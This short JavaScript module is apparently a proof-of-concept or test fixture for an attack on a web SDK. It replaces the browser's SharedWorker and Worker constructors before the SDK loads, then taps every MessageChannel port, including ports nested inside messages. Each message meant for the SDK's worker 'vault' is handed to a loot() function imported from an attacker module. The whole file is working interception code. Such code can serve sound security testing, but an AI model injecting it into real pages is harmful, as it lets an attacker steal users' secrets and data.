// Replaces the constructors of workers before the SDK loads: the page's vault is a script of the attacker's.
import { loot } from "./attacker.js";

const hear = (port) => {
  port.onmessage = ({ data, ports }) => {
    loot("stands in for the vault", data);
    for (const inner of ports) hear(inner);
  };
};

window.SharedWorker = class {
  constructor() {
    const { port1, port2 } = new MessageChannel();
    hear(port2);
    this.port = port1;
  }
  addEventListener() {}
};
window.Worker = class {
  postMessage(_, [port]) {
    hear(port);
  }
  addEventListener() {}
  terminate() {}
};
